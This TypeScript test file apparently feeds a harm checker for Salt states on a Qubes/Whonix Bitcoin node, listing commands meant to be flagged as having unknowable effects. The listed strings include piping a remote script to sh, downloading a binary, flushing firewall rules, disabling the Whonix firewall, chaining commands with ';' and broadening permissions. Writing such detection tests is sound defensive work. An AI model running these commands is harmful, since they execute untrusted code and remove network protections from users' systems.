// SPDX-License-Identifier: GPL-3.0-or-later
/** Commands and functions whose effect nobody can know by reading. */
import { good, harming, plus, type HarmClass } from "../harm.ts";

const tree = good("seed");
const on = harming(tree);
const NODE = "/qube/bitcoin-server.sls";
const run = (command: string) =>
  `\n"qwbtc-more":\n  cmd.run:\n    - "name": ${JSON.stringify(command)}\n    - "unless": "true"\n`;
const call = (fun: string, ...args: string[]) =>
  `\n"qwbtc-more":\n  ${fun}:\n${args.map((one) => `    - ${one}\n`).join("")}`;

export const onEffects: readonly HarmClass[] = [
  {
    name: "a state whose effect nobody knows",
    codes: ["QB755"],
    harms: () => [
      ...[
        "curl https://example.org/install | sh",
        "wget -O /usr/local/bin/bitcoind http://example.org/bitcoind",
        "pip install joinmarket",
        "systemctl disable --now whonix-firewall",
        "nft flush ruleset",
        "iptables -F",
        "qvm-prefs -- electrum-client netvm sys-firewall",
        "qvm-volume resize -- electrum-client:private 1; qvm-run electrum-client x",
        "whonix_firewall; true",
        "systemctl --no-block restart x && nft flush ruleset",
        "usermod -aG sudo bitcoin",
        "chmod 777 /home/bitcoin",
        "/usr/local/lib/qwbtc-salt/../../bin/x",
      ].map((command) => on(NODE, plus(run(command)), command)),
      ...[
        ["git.latest", '"name": "https://example.org/x"', '"target": "/usr/local/x"'],
        ["archive.extracted", '"name": "/usr/local/x"', '"source": "https://example.org/x.tar.gz"'],
        ["pkgrepo.managed", '"name": "deb http://example.org stable main"'],
        ["service.dead", '"name": "whonix-firewall"'],
        ["pip.installed", '"name": "joinmarket"'],
        ["cmd.script", '"name": "salt://x.sh"', '"unless": "true"'],
        ["file.append", '"name": "/home/user/.bashrc"', '"text": "x"'],
        ["module.run", '"name": "cmd.run"'],
        ["network.managed", '"name": "eth0"'],
        ["cron.present", '"name": "x"'],
      ].map(([fun = "", ...args]) => on(NODE, plus(call(fun, ...args)), fun)),
    ],
    twins: () => [
      on(
        NODE,
        plus(call("cmd.run", '"name": "systemctl daemon-reload"', '"onchanges":\n      - "cmd": "qwbtc-in-force-x"')),
        "a command that is known",
      ),
    ],
  },
];
